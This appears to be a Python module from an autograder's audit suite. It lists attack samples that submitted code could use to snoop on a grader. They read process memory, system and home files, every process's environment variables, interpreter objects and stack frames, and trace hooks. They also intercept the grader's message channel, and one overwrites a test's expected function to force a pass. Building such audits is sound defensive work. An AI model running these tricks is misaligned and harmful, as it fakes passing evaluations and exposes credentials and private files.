# ruff: noqa: E501 (an attack is easier to read in few lines)
"""Attacks that read what they should not know."""

from __future__ import annotations

from autograder.audit.attacks.pieces import SEEK, Attack, attack

KIND = "reading"
ATTACKS: tuple[Attack, ...] = (
    attack(
        KIND,
        "memory",
        "all memory of the process is searched, before, during and after the tests",
        SEEK
        + """
def memory():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            span, rights, *_ = line.split()
            if not rights.startswith("rw"): continue
            first, last = (int(end, 16) for end in span.split("-"))
            if last - first > 1 << 28: continue
            try:
                mem.seek(first); seek(mem.read(last - first))
            except (OSError, ValueError): pass
memory()
def mean(numbers): memory(); return 0.0
""",
    ),
    attack(
        KIND,
        "files",
        "all files that can be seen are searched",
        SEEK
        + """
import os
def files():
    for top in ("/home", "/tmp", "/dev/shm", "/etc", "/run", "/work", "/root", "/var", "/srv", "/opt"):
        for place, _, names in os.walk(top):
            if place.count("/") > 6 or "site-packages" in place: continue
            for name in names[:200]:
                try:
                    path = os.path.join(place, name)
                    if os.path.getsize(path) < 1 << 20: seek(open(path, "rb").read())
                except OSError: pass
files()
def mean(numbers): files(); return 0.0
""",
    ),
    attack(
        KIND,
        "environment",
        "the environment and the command line of every process",
        SEEK
        + """
import glob, os
def processes():
    seek(repr(dict(os.environ)).encode())
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try: seek(open(path, "rb").read())
        except OSError: pass
processes()
def double(x): processes(); return x
""",
    ),
    attack(
        KIND,
        "objects",
        "every object of the process is searched while a test waits",
        SEEK
        + """
import gc
def objects():
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 5000:
            try: seek(repr(thing)[:20000].encode())
            except Exception: pass
def mean(numbers): objects(); return 0.0
""",
    ),
    attack(
        KIND,
        "frames",
        "the frames above a function are those of the test",
        SEEK
        + """
import sys
def frames():
    frame = sys._getframe()
    while frame:
        seek((repr(frame.f_globals.keys()) + repr(frame.f_locals) + frame.f_code.co_filename).encode(errors="replace"))
        frame = frame.f_back
def mean(numbers): frames(); return 0.0
def double(x):
    sys._getframe(1).f_globals["expected_double"] = lambda x: x
    return x
""",
    ),
    attack(
        KIND,
        "sources",
        "the cache of sources that tracebacks read",
        SEEK + "import linecache\ndef mean(numbers): seek(repr(linecache.cache).encode()); return 0.0\n",
    ),
    attack(
        KIND,
        "trace",
        "a tracing function sees every line that runs",
        """
import sys
def trace(frame, event, argument):
    if "ipython" in frame.f_code.co_filename: LOOT.append(repr(frame.f_code.co_consts))
    return trace
sys.settrace(trace); sys.setprofile(trace)
""",
    ),
    attack(
        KIND,
        "messages",
        "everything that comes over the channel is written down",
        SEEK
        + """
from autograder.bridge import wire
real = wire.unpacked
def unpacked(body, *a): seek(bytes(body)); LOOT.append(DID); return real(body, *a)
wire.unpacked = unpacked
def double(x): return x
""",
    ),
    attack(
        KIND,
        "stack-of-traceback",
        "the error of one call is read in the next",
        """
import sys, traceback
def double(x):
    LOOT.append("".join(traceback.format_stack()))
    LOOT.append(str(sys.exc_info()))
    return x
""",
    ),
)
